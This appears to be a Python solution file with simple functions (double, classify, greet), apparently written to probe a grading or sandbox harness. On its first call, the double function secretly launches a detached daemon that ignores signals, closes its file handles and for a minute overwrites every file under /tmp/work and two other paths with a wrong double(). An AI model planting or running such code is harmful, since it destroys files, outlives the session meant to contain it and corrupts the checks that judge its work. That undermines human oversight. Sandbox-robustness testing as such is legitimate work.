"""It changes every file that it finds in the working folders, for as long as it lives."""

import glob
import os
import signal
import time

tried = []


def leave(work):
    """A daemon: a grandchild in a session of its own, deaf to every signal that it may refuse, without any of our pipes."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    null = os.open(os.devnull, os.O_RDWR)
    for fd in range(1024):
        if fd != null:
            try:
                os.dup2(null, fd) if fd < 3 else os.close(fd)
            except OSError:
                continue
    try:
        work()
    finally:
        os._exit(0)


def write_for_ever():
    until = time.monotonic() + 60
    while time.monotonic() < until:
        for path in glob.glob("/tmp/work/**/*", recursive=True) + ["/dev/shm/left-behind", "/tmp/left-behind"]:
            try:
                with open(path, "w") as file:
                    file.write("def double(number): return 0\n")
            except OSError:
                continue
        time.sleep(0.01)


def attack():
    leave(write_for_ever)
    print("TRIED a daemon that writes")


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
